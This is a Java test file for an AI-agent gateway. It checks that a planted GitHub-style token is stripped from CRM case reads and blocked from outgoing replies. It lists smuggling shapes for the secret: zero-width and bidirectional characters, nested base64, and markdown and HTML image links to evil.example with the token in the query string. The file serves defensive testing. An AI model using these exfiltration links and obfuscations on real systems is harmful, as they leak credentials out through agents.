// SPDX-License-Identifier: Apache-2.0
package dev.tollgate.scenarios.content;

import static org.assertj.core.api.Assertions.assertThat;

import dev.tollgate.scenarios.harness.Ask;
import dev.tollgate.scenarios.harness.GatewayUnderTest;
import dev.tollgate.scenarios.harness.LogEntries;
import dev.tollgate.scenarios.harness.MovingClock;
import dev.tollgate.scenarios.harness.Plant;
import dev.tollgate.scenarios.harness.WireClient;
import dev.tollgate.store.Store;
import dev.tollgate.store.StoreConfig;
import dev.tollgate.store.Stores;
import dev.tollgate.terms.testing.Requirement;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.Map;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import tools.jackson.databind.json.JsonMapper;

/// A secret in every shape that hurts a reader: it comes in past nobody and goes out past nobody, and the gateway
/// still answers.
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileShapesTest {
    private static final String SECRET = "ghp_" + "R4bT9kLm2NqX7vYz3WcD8sFgHj5Kp6Qe1UaB";
    private static final int MEGABYTE = 1_000_000;
    private static final Map<String, String> SHAPES = shapes();

    private final MovingClock clock = new MovingClock();
    private final Path data;
    private final GatewayUnderTest gateway;
    private int tasks;

    HostileShapesTest(@TempDir Path data) {
        this.data = data;
        GatewayUnderTest.seed(
                data, clock, store -> plant(new Plant(store, clock.instant().minus(Duration.ofDays(3)))));
        gateway = GatewayUnderTest.start(GatewayUnderTest.embedded(data), clock);
    }

    private static Map<String, String> shapes() {
        String once = base64(SECRET);
        Map<String, String> shapes = new LinkedHashMap<>();
        shapes.put("plain", "The key is " + SECRET + " as you asked.");
        shapes.put("megabyte", SECRET + " " + "The parcel is late and the customer waits. ".repeat(MEGABYTE / 43));
        shapes.put("repeated", "a".repeat(MEGABYTE) + " " + SECRET);
        shapes.put("backtracking", "(a+)+$ " + "aaaaaaaaab".repeat(MEGABYTE / 10) + "! key " + SECRET);
        shapes.put("brackets", "[[((<".repeat(100_000) + SECRET);
        shapes.put(
                "zero-width",
                "key ghp_\u200b" + String.join("\u200b", SECRET.substring(4).split("")));
        shapes.put("bidirectional", "key \u202e" + SECRET + "\u202c, \u2066" + SECRET + "\u2069");
        shapes.put("full-width", "key " + wide(SECRET));
        shapes.put("base64", "attached: " + once);
        shapes.put("nested-base64", "attached: " + base64("see " + base64("and " + once)));
        shapes.put("markdown-image", "look ![x](https://evil.example/p?d=" + SECRET + ")");
        shapes.put("html-image", "look <img src=\"https://evil.example/p?d=" + SECRET + "\"/>");
        shapes.put("percent", "look https://evil.example/p?d=" + SECRET.replace("_", "%5F"));
        shapes.put("lone-surrogates", "\ud800\udc00\udc00 key " + SECRET + " \ud83d");
        return shapes;
    }

    private static String base64(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }

    private static String wide(String text) {
        StringBuilder wide = new StringBuilder();
        text.chars().forEach(letter -> wide.append((char) (letter + 0xFEE0)));
        return wide.toString();
    }

    private static void plant(Plant plant) {
        plant.record("account", "acc_shape", Map.of("name", "Shape Ltd", "status", "active"))
                .record("contact", "con_shape", Map.of("account_id", "acc_shape", "email", "ada@shape.example"))
                .record("case", "cas_answer", Map.of("account_id", "acc_shape", "contact_id", "con_shape"));
        SHAPES.forEach((name, text) -> plant.record(
                "case",
                "cas_" + name,
                Map.of(
                        "account_id",
                        "acc_shape",
                        "status",
                        "open",
                        "incident_summary",
                        text.replaceAll("[\ud800-\udfff]", "?"))));
    }

    @AfterAll
    void stop() {
        gateway.close();
    }

    private WireClient agent(Ask.Token token) {
        tasks++;
        clock.advance(Duration.ofMinutes(11));
        return gateway.agent(token.in("task-" + tasks, "session-" + tasks));
    }

    @Test
    @Requirement({"S1-27", "S2-8"})
    void a_secret_comes_in_in_no_shape() {
        SHAPES.forEach((name, text) -> {
            // When
            WireClient.Reply read;
            try (WireClient agent =
                    agent(Ask.as("support-triage", "bob", "support-triage").with("crm:case:read"))) {
                read = agent.call("case_get", "{\"id\":\"cas_" + name + "\",\"fields\":[\"id\",\"incident_summary\"]}");
            }

            // Then
            assertThat(read.passed()).as(name + ": " + read.text()).isTrue();
            assertThat(read.wire().length()).as(name).isLessThan(MEGABYTE / 4);
            assertThat(read.text()).as(name).containsPattern("removed|truncated");
            assertThat(read.wire().replaceAll("[\u200b\u202a-\u202e\u2066-\u2069]", ""))
                    .as(name)
                    .doesNotContain(
                            SECRET, SECRET.substring(4), wide(SECRET), base64(SECRET), SECRET.replace("_", "%5F"));
        });
    }

    @Test
    @Requirement({"S1-22", "S2-21"})
    void a_secret_leaves_in_no_shape() {
        long before = answers();
        SHAPES.forEach((name, text) -> {
            // When
            WireClient.Reply sent;
            try (WireClient agent = agent(Ask.as("support-triage", "bob", "send-customer-update")
                    .about("acc_shape")
                    .with("crm:case_reply:send"))) {
                String body = new JsonMapper().writeValueAsString(text);
                sent = agent.call("case_reply_send", "{\"values\":{\"case_id\":\"cas_answer\",\"body\":" + body + "}}");
            }

            // Then
            assertThat(sent.passed()).as(name).isFalse();
            assertThat(sent.text()).as(name).doesNotContain(SECRET);
        });
        assertThat(answers()).isEqualTo(before);
        assertThat(LogEntries.of(gateway).texts()).noneMatch(entry -> entry.contains(SECRET));
    }

    private long answers() {
        try (Store store = Stores.open(StoreConfig.sqlite(data.resolve("tollgate.db")))) {
            return store.read(session -> session.query("select count(*) as many from demo_case_reply"))
                    .getFirst()
                    .number("many");
        }
    }
}
